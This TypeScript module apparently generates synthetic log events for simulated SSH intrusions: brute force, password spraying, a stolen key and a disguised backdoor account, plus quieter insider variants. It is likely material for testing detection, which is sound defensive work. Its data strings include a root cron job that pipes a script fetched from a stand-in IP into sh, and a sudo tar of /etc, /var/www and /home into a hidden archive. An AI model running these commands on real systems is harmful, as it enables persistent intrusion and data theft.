import { addAccount, addToGroup, setPassword } from '../account-changes.js';
import type { Person } from '../people.js';
import { HOUR_MS, MINUTE_MS } from '../routine-people.js';
import { su, sudo } from '../privilege.js';
import { guessAndLeave, refusePasswords } from '../sshd-preauth.js';
import { openShell, plantAccount, plantCron, plantKey, reconnaissance } from './actions.js';
import { enter, foreignWork, insider } from './quiet.js';
import type { Script, Stage } from './stage.js';
import { attackerPeer, Clock, samePeer } from './stage.js';

/** Whose password or key falls: someone who may use sudo and, if there is one, works on the host. */
function victim({ people, site, dice }: Stage): Person {
  const able = people.filter((person) => person.sudo);
  const here = able.filter((person) => person.works.some(([kind]) => kind === site.kind));
  return dice.pick(here.length > 0 ? here : able);
}

/** A few guesses by hand at one account from an address that somebody used, hours apart; then it is in. */
function guessQuietly(stage: Stage, users: readonly string[], address: string, clock: Clock): void {
  const { site, known, dice, step } = stage;
  if (!known.had('failed-password')) return;
  step('guessing', site, () => {
    for (const user of users) {
      const peer = known.peer(address, dice);
      guessAndLeave(site, { peer, user, valid: true, tries: 1, atMs: clock.next(), byHand: true });
    }
  });
}

function carefulGuessing(stage: Stage): void {
  const { site, known, dice, step, midnightMs } = stage;
  const user = insider(stage).name;
  const address = known.strangeAddress(user, dice);
  const clock = new Clock(midnightMs + dice.between(8, 10) * HOUR_MS, 15 * MINUTE_MS, dice);
  guessQuietly(stage, new Array<string>(dice.int(10, 16)).fill(user), address, clock);
  const fromMs = clock.next(20 * MINUTE_MS);
  const toMs = fromMs + 30 * MINUTE_MS;
  const shell = { site, user, tty: 'pts/1', fromMs, toMs };
  step('sign-in', site, () => openShell(site, known.peer(address, dice), user, fromMs, toMs));
  step('reconnaissance', site, () => foreignWork(shell, known, new Clock(fromMs + 30_000, 200_000, dice), 4, dice));
  const backMs = toMs + 4 * HOUR_MS;
  const back = { ...shell, fromMs: backMs, toMs: backMs + 15 * MINUTE_MS };
  step('return', site, () => openShell(site, known.peer(address, dice), user, backMs, back.toMs));
  step('return', site, () => foreignWork(back, known, new Clock(backMs + 30_000, 150_000, dice), 2, dice));
}

/** Guessing one account until it works; then reconnaissance, a new account, a key and a cron job, and a second visit. */
export const bruteForceSuccess: Script = (stage) => {
  const { site, careful, dice, step } = stage;
  if (careful) {
    carefulGuessing(stage);
    return;
  }
  const user = victim(stage).name;
  const peer = attackerPeer(stage);
  const clock = new Clock(stage.midnightMs + dice.between(1.5, 4) * HOUR_MS, 3400, dice);
  step('guessing', site, () => {
    for (let n = dice.int(45, 90); n > 0; n--) {
      const tries = dice.pick([1, 3, 6]);
      const guess = { peer: samePeer(peer, dice), user, valid: true, tries, atMs: clock.next() };
      clock.next(Math.max(0, guessAndLeave(site, guess) - clock.nowMs));
    }
  });
  const fromMs = clock.next(20_000);
  const toMs = fromMs + 14 * MINUTE_MS;
  const actions = new Clock(fromMs + 8000, 18_000, dice);
  step('sign-in', site, () => openShell(site, samePeer(peer, dice), user, fromMs, toMs));
  const shell = { site, user, tty: 'pts/1', fromMs, toMs };
  step('reconnaissance', site, () => reconnaissance(shell, actions, dice));
  const planted = dice.pick(['sysupd', 'ubnt2', 'dbus-svc']);
  step('persistence', site, () => {
    plantKey(shell, user, actions);
    plantAccount(shell, planted, actions);
    plantCron(shell, 'root', 'curl -fsS http://192.0.2.77/u.sh | sh', actions, 600_000, 6);
  });
  step('return', site, () => {
    const backMs = toMs + 1.2 * HOUR_MS;
    const back = openShell(site, samePeer(peer, dice), planted, backMs, backMs + 400_000);
    sudo(back, { atMs: back.fromMs + 20_000, command: '/usr/bin/bash', lastsMs: 200_000 });
  });
};

/** A person's own key, from a network that is not hers, at an hour that is not hers. */
export const stolenKey: Script = (stage) => {
  const { site, known, careful, dice, step } = stage;
  const owner = careful ? insider(stage) : victim(stage);
  const fromMs = stage.midnightMs + (careful ? dice.between(17, 18.5) : dice.between(1, 4)) * HOUR_MS;
  const toMs = fromMs + (careful ? 40 : 22) * MINUTE_MS;
  const shell = { site, user: owner.name, tty: 'pts/0', fromMs, toMs };
  if (careful) {
    const address = known.strangeAddress(owner.name, dice, site.exposed === 'no');
    const clock = new Clock(fromMs + 20_000, 240_000, dice);
    step('sign-in', site, () => enter(stage, { user: owner.name, address, fromMs, lastsMs: toMs - fromMs }));
    step('reconnaissance', site, () => foreignWork(shell, known, clock, 3, dice));
    const edit = known.commandsWith('tee -a /home/').at(-1);
    if (edit !== undefined) step('persistence', site, () => sudo(shell, { atMs: clock.next(), command: edit }));
    return;
  }
  const clock = new Clock(fromMs + 20_000, 25_000, dice);
  step('sign-in', site, () => openShell(site, attackerPeer(stage), owner.name, fromMs, toMs, owner.key));
  step('reconnaissance', site, () => reconnaissance(shell, clock, dice));
  step('persistence', site, () => plantAccount(shell, dice.pick(['svc-report', 'mnt-user']), clock));
  step('collection', site, () => {
    sudo(shell, { atMs: clock.next(), command: '/usr/bin/tar czf /tmp/.c.tgz /etc /var/www /home', lastsMs: 25_000 });
  });
};

/** One password for many accounts, slowly; one fits, and little is done with it. */
export const passwordSpray: Script = (stage) => {
  const { site, known, careful, dice, step } = stage;
  const fallen = careful ? insider(stage).name : victim(stage).name;
  if (careful) {
    const address = known.strangeAddress(fallen, dice);
    const clock = new Clock(stage.midnightMs + 7 * HOUR_MS, 25 * MINUTE_MS, dice);
    guessQuietly(stage, known.people(), address, clock);
    const fromMs = clock.next(30 * MINUTE_MS);
    const toMs = fromMs + 15 * MINUTE_MS;
    const shell = { site, user: fallen, tty: 'pts/0', fromMs, toMs };
    step('sign-in', site, () => openShell(site, known.peer(address, dice), fallen, fromMs, toMs));
    step('reconnaissance', site, () => foreignWork(shell, known, new Clock(fromMs + 10_000, 120_000, dice), 3, dice));
    return;
  }
  const names = [...stage.people.map((person) => person.name), 'root', 'deploy', 'backup', 'monitor'];
  const invalid = ['info', 'sales', 'hr', 'office', 'support', 'accounting', 'admin'];
  const peer = attackerPeer(stage);
  const clock = new Clock(stage.midnightMs + 4 * HOUR_MS, 30_000, dice);
  step('guessing', site, () => {
    for (const user of [...names, ...invalid, ...names]) {
      const guess = { peer: samePeer(peer, dice), user, valid: !invalid.includes(user), tries: 1, atMs: clock.next() };
      guessAndLeave(site, guess);
    }
  });
  const fromMs = clock.next(60_000);
  const toMs = fromMs + 12 * MINUTE_MS;
  step('sign-in', site, () => {
    const process = site.journal.process(site.dialect.sshdWorker);
    const wrong = { peer: samePeer(peer, dice), user: fallen, valid: true, tries: 1, atMs: fromMs - 9000 };
    refusePasswords(site, process, wrong);
    openShell(site, samePeer(peer, dice), fallen, fromMs, toMs);
  });
  const shell = { site, user: fallen, tty: 'pts/0', fromMs, toMs };
  step('reconnaissance', site, () => reconnaissance(shell, new Clock(fromMs + 10_000, 30_000, dice), dice));
};

/** A contractor's account that had been taken away is made again, and used from elsewhere. */
function carefulBackdoor(stage: Stage): void {
  const { site, known, dice, step, midnightMs } = stage;
  const admin = insider(stage, (who) => who.sudo && who.role === 'administrator');
  const fromMs = midnightMs + dice.between(12, 13) * HOUR_MS;
  const lastsMs = 20 * MINUTE_MS;
  const shell = { site, user: admin.name, tty: 'pts/1', fromMs, toMs: fromMs + lastsMs };
  const clock = new Clock(fromMs + 15_000, 90_000, dice);
  const made = known.commandsWith('/usr/sbin/useradd').map((command) => command.split(' ').at(-1) ?? '');
  const guests = made.filter(
    (name) => known.signIns(name).length > 0 && known.ran(`/usr/sbin/usermod -aG external ${name}`),
  );
  step('sign-in', site, () =>
    enter(stage, { user: admin.name, address: known.ownAddress(admin.name), fromMs, lastsMs }),
  );
  const name = guests.length > 0 ? dice.pick(guests) : admin.name;
  step('persistence', site, () => {
    if (guests.length === 0) {
      foreignWork(shell, known, clock, 3, dice);
      return;
    }
    addAccount(shell, { name }, clock.next());
    addToGroup(shell, name, 'external', clock.next());
    setPassword(shell, name, clock.next());
  });
  for (let n = 0; n < 2; n++) {
    const backMs = fromMs + (3 + 3 * n) * HOUR_MS;
    const address = known.strangeAddress(name, dice, site.exposed === 'no');
    const back = { site, user: name, tty: 'pts/0', fromMs: backMs, toMs: backMs + lastsMs };
    step('return', site, () => enter(stage, { user: name, address, fromMs: backMs, lastsMs }));
    step('return', site, () => foreignWork(back, known, new Clock(backMs + 15_000, 150_000, dice), 2, dice));
  }
}

/** An account that looks like the system's, a cron job that keeps it alive, and a later visit by it. */
export const backdoorAccount: Script = (stage) => {
  const { site, careful, dice, step, people } = stage;
  if (careful) {
    carefulBackdoor(stage);
    return;
  }
  const admin = people[dice.int(0, 1)];
  const fromMs = stage.midnightMs + dice.between(21, 21.8) * HOUR_MS;
  const toMs = fromMs + 20 * MINUTE_MS;
  step('sign-in', site, () => openShell(site, attackerPeer(stage), admin.name, fromMs, toMs, admin.key));
  const shell = { site, user: admin.name, tty: 'pts/1', fromMs, toMs };
  const clock = new Clock(fromMs + 15_000, 15_000, dice);
  const name = dice.pick(['systemd-bus', 'polkit-agent', 'sshd-mon']);
  step('persistence', site, () => {
    const root = su(shell, 'root', clock.next(), 8 * MINUTE_MS);
    plantAccount({ ...root, user: admin.name }, name, clock);
    plantCron(shell, name, `/home/${name}/.cache/agent -q`, clock, 300_000, 10);
  });
  step('return', site, () => {
    const backMs = toMs + 0.6 * HOUR_MS;
    const back = openShell(site, attackerPeer(stage), name, backMs, backMs + 500_000);
    sudo(back, { atMs: back.fromMs + 15_000, command: '/usr/bin/bash', lastsMs: 300_000 });
  });
};
